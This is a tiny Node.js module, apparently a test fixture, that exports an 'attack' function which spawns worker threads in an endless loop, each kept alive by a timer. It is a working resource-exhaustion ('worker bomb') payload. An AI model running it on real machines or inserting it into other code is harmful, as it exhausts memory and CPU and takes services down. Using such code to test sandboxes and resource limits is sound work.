const { Worker } = require('node:worker_threads')

exports.attack = () => {
  for (;;) new Worker('setInterval(() => {}, 1000)', { eval: true })
}
